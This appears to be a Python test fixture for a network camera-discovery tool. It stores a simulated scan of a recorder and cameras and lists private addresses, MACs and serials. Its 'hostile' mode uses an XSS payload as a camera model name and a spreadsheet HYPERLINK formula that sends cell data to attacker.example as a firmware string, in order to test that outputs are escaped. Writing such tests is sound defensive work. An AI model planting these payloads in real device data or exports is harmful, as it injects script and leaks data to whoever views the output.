"""A body's estate as a discovery scan stores it (through ``start_scan``, ``link_channels`` and
``finish_scan``, as `camcensus discover --body` does): a recorder whose channel list names a camera the scan
also found, one only it reaches, an analogue input and a disabled channel; a second camera answering the
scan; with ``hostile``, that camera's model and firmware are what an attacker's device could answer.

Nothing in it may reach a public output: ``PRIVATE`` lists the addresses, MACs and serials.
"""

from __future__ import annotations

from dataclasses import dataclass

from sqlalchemy.orm import Session

from camcensus.network.identify import DeviceReport
from camcensus.network.probes.channel_lists import Channel
from camcensus.network.recorders import link_channels
from camcensus.network.scans import finish_scan, start_scan

HOSTILE_MODEL = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>IPC-HDW5831R-ZE'
FORMULA_FIRMWARE = '=HYPERLINK("http://attacker.example/?"&A1,"2.800.0000016.0.R,build:2020-06-05")'
PLAIN_FIRMWARE = "2.800.0000016.0.R,build:2020-06-05"
ACTOR = "estate.owner@scanner-host"
PRIVATE = (
    "10.1.0.4",
    "10.1.0.9",
    "10.1.0.10",
    "10.1.0.12",
    "10.1.0.20",
    "44:19:b6:0a:0b:04",
    "44:19:b6:0a:0b:09",
    "DS-7608NI-K20190101AAWR1111",
    "DS-2CD2143G2-I20200101AAWR9999",
    "4XDAHUA0020",
    "estate.owner",
    "scanner-host",
)


@dataclass
class Estate:
    scan_id: int
    recorder: int
    camera: int  # answered the scan, and is channel 1 of the recorder
    dahua: int  # answered the scan, on no recorder


def estate_reports(hostile: bool = False) -> list[DeviceReport]:
    recorder = DeviceReport(
        "10.1.0.4",
        port=80,
        vendor="Hikvision",
        brand="Hikvision",
        model="DS-7608NI-K2",
        firmware="V4.1.0 build 170101",
        serial="DS-7608NI-K20190101AAWR1111",
        mac="44:19:b6:0a:0b:04",
        device_type="recorder",
        confidence=0.95,
    )
    recorder.channels = [
        Channel(1, "ip", address="10.1.0.9", port=8000, model="DS-2CD2143G2-I", vendor="Hikvision"),
        Channel(2, "ip", address="10.1.0.10", port=8000, model="DS-2CD2386G2-IU", vendor="Hikvision"),
        Channel(3, "analogue", enabled=True),
        Channel(4, "ip", address="10.1.0.12", port=8000, enabled=False),
    ]
    recorder.channels_listed, recorder.channel_limit = True, 8
    camera = DeviceReport(
        "10.1.0.9",
        port=80,
        vendor="Hikvision",
        brand="Hikvision",
        model="DS-2CD2143G2-I",
        firmware="V5.5.82 build 190220",
        serial="DS-2CD2143G2-I20200101AAWR9999",
        mac="44:19:b6:0a:0b:09",
        device_type="camera",
        confidence=0.95,
    )
    dahua = DeviceReport(
        "10.1.0.20",
        port=80,
        vendor="Dahua",
        brand="Dahua",
        model=HOSTILE_MODEL if hostile else "IPC-HDW5831R-ZE",
        firmware=FORMULA_FIRMWARE if hostile else PLAIN_FIRMWARE,
        serial="4XDAHUA0020",
        device_type="camera",
        confidence=0.9,
    )
    return [recorder, camera, dahua]


def scan_estate(session: Session, body_id: int, hostile: bool = False) -> Estate:
    """Store the estate as a scan of the body's network; returns the ids of what it stored."""
    from sqlalchemy import select

    from camcensus.store.models import Device

    reports = estate_reports(hostile)
    scan = start_scan(session, ["10.1.0.0/24"], {"username": "admin"}, body_id, actor=ACTOR)
    link_channels(reports)
    finish_scan(session, scan, reports)
    ids = {d.address: d.id for d in session.scalars(select(Device).where(Device.body_id == body_id))}
    return Estate(scan.id, ids["10.1.0.4"], ids["10.1.0.9"], ids["10.1.0.20"])
